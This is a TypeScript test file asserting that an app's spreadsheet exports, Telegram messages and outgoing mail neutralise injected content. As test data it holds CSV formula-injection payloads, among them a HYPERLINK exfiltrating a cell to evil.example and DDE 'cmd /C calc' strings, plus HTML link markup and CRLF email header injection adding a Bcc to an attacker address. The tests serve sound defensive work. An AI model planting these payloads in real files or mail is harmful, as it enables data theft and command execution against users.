import { strFromU8, unzipSync } from 'fflate';
import PostalMime from 'postal-mime';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { csvOf } from '../../src/main/answers/csv.ts';
import { xlsxOf } from '../../src/main/answers/xlsx.ts';
import { compose } from '../../src/main/mail/compose.ts';
import { contract, type Name } from '../../src/preload/contract/contract.ts';
import type { Result } from '../../src/preload/contract/database.ts';
import { operatorOf } from '../support/callers.ts';
import { exported } from '../support/exported.ts';
import { type Siege, siege } from '../support/siege.ts';

const formulas = [
  '=HYPERLINK("https://evil.example/?"&A1,"x")',
  "+1+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '＝1+1',
];
const markup = '<b>bold</b><a href="https://evil.example/">x</a>&lt;';

let town: Siege;
beforeAll(async () => {
  town = await siege();
  const { people, databases } = town.app;
  const operator = people.persons.operator(town.a.organizationId);
  for (const [at, name] of formulas.entries()) people.members.add(operator, 5_000 + at, name);
  databases.catalogue.rename(operator, town.a.databaseId, formulas[0] ?? '');
});
afterAll(() => town[Symbol.asyncDispose]());

/** Cells as a spreadsheet reads them. */
const cellsOf = (csv: string): string[] =>
  [...csv.replace(/^\ufeff/, '').matchAll(/(?:^|,|\r?\n)(?:"((?:[^"]|"")*)"|([^,"\r\n]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? '',
  );
const computed = (cells: readonly string[]): string[] =>
  cells.filter((cell) => /^[=+\-@\t\r＝＋－＠]/.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));

describe('a spreadsheet computes nothing', () => {
  const exports = (Object.keys(contract) as Name[]).filter((name) => name.endsWith('.export'));
  const period = { from: '2026-01-01', to: '2030-01-01' };

  it.each(exports)('of %s', async (name) => {
    const views = name === 'costs.export' ? ['people', 'models', 'overview'] : ['people'];
    for (const view of views) {
      const input = { period, view, format: 'csv', limit: 200 };
      const text = await exported(
        town.app.dispatcher,
        operatorOf(town.a.organizationId),
        name,
        input,
      );
      expect(text.length).toBeGreaterThan(20);
      expect(computed(cellsOf(text))).toEqual([]);
    }
  });

  it('finds the names it looks for', async () => {
    const caller = operatorOf(town.a.organizationId);
    const cells = cellsOf(await exported(town.app.dispatcher, caller, 'members.export', {}));
    for (const formula of formulas) expect(cells.some((cell) => cell.endsWith(formula))).toBe(true);
  });

  it('of an answer, in its columns or its rows', async () => {
    const result: Result = {
      columns: formulas.map((name) => ({ name, type: 'text' })),
      rows: [formulas, formulas.map((text) => `\t${text}`)],
      cut: null,
      elapsedMs: 1,
    };
    expect(computed(cellsOf(Buffer.from(csvOf(result)).toString('utf8')))).toEqual([]);
    const parts = unzipSync(new Uint8Array(await xlsxOf(result, false)));
    for (const [name, bytes] of Object.entries(parts))
      if (/\.(xml|rels)$/.test(name))
        expect([name, /<f[ >]/.test(strFromU8(bytes))]).toEqual([name, false]);
  });
});

describe('a message in Telegram', () => {
  it('shows what others wrote as it was written', async () => {
    const { people } = town.app;
    const eve = town.telegram.user(6_000, { name: markup, languageCode: 'en' });
    eve.send('/start');
    const hello = await eve.sees('Hello');
    expect(hello.text).toContain(markup);
    const known = people.persons.byTelegram(6_000);
    if (!known) throw new Error('nobody');
    people.invitations.join(known, people.invitations.create(town.a.owner).code);
    people.organizations.rename(people.persons.operator(town.a.organizationId), markup);
    for (const command of ['/members', '/orginfo', '/dbs', '/myinfo']) {
      eve.send(command);
      await eve.sees(/./);
    }
    const owner = town.telegram.user(100, { languageCode: 'en' });
    owner.send('/members');
    await owner.sees(markup);
    const entities = [...eve.chat.fromBot, ...owner.chat.fromBot].flatMap((one) => one.entities);
    expect(entities.filter(({ type }) => type === 'text_link')).toEqual([]);
  });
});

describe('a mail', () => {
  it('has no header, recipient or markup of anybody’s making, whoever forgot to tidy', async () => {
    const evil = 'attacker@evil.example';
    const raw = await compose({
      messageId: '<1@diwan.test>',
      date: '2026-02-03T04:05:06.000Z',
      from: 'bot@diwan.test',
      to: ['ali@acme.com'],
      subject: `Orders\r\nBcc: ${evil}\r\n\r\n<h1>x</h1>`,
      body: `${markup}\r\n.\r\nRCPT TO:<${evil}>`,
      language: 'en',
      attachments: [
        { kind: 'csv', name: `a"\r\nBcc: ${evil}\r\n\r\n<script>.csv`, bytes: Buffer.from('x') },
      ],
    });
    const mail = await PostalMime.parse(raw);
    expect([mail.bcc, mail.cc, mail.to]).toEqual([
      undefined,
      undefined,
      [{ name: '', address: 'ali@acme.com' }],
    ]);
    expect(mail.attachments).toHaveLength(1);
    expect(mail.html).not.toContain('<a href="https://evil.example/">');
    expect(mail.html).toContain('&lt;b&gt;bold');
  });
});
